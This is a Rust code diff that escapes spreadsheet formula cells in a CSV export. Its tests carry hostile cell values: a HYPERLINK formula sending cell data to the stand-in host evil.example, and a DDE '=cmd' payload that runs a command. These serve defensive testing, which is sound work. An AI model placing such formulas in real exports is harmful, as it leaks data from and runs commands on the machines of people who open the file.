@@ -268,11 +268,16 @@ pub fn table(rows: &[Access]) -> String {
     out
 }
 
+/// A CSV cell. A cell a spreadsheet would read as a formula (`=`, `+`, `-`, `@`, tab or
+/// CR first: a purpose is anyone's text) is prefixed with `'` and quoted, as OWASP advises.
 fn csv_field(text: &str) -> String {
+    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        return format!("\"'{}\"", text.replace('"', "\"\""));
+    }
     if text.contains([',', '"', '\n', '\r']) { format!("\"{}\"", text.replace('"', "\"\"")) } else { text.to_string() }
 }
 
-/// RFC 4180 CSV with a header row.
+/// RFC 4180 CSV with a header row, safe to open in a spreadsheet (no formula cells).
 pub fn csv(rows: &[Access]) -> String {
     let header = [
         "kind",
@@ -374,8 +379,37 @@ mod tests {
         );
         assert_eq!(text.lines().count(), rows.len() + 1);
         assert_eq!(csv_field("a,\"b\""), "\"a,\"\"b\"\"\"");
+        assert_eq!(csv_field("plain text"), "plain text");
+        assert_eq!(csv_field("a-b=c"), "a-b=c");
         let table = table(&rows);
         assert!(table.starts_with("OBJECT"));
         assert_eq!(table.lines().count(), rows.len() + 1);
+    }
+
+    #[test]
+    fn csv_cells_never_start_a_formula() {
+        for (cell, expected) in [
+            (
+                "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")",
+                "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"x\"\")\"",
+            ),
+            ("+1+1", "\"'+1+1\""),
+            ("-2+3", "\"'-2+3\""),
+            ("@SUM(A1)", "\"'@SUM(A1)\""),
+            ("\t=1", "\"'\t=1\""),
+            ("\r=1", "\"'\r=1\""),
+        ] {
+            assert_eq!(csv_field(cell), expected, "{cell:?}");
+        }
+        let mut rows = rows("2026-06-01T00:00:00Z");
+        rows[0].purpose = Some("=cmd|' /C calc'!A0".into());
+        let text = csv(&rows);
+        let first = text.lines().nth(1).expect("a row");
+        assert!(first.contains(",\"'=cmd|' /C calc'!A0\","), "{first}");
+        for line in text.lines() {
+            for cell in line.split(',') {
+                assert!(!cell.starts_with(['=', '+', '-', '@']), "a formula cell in {line}");
+            }
+        }
     }
 }
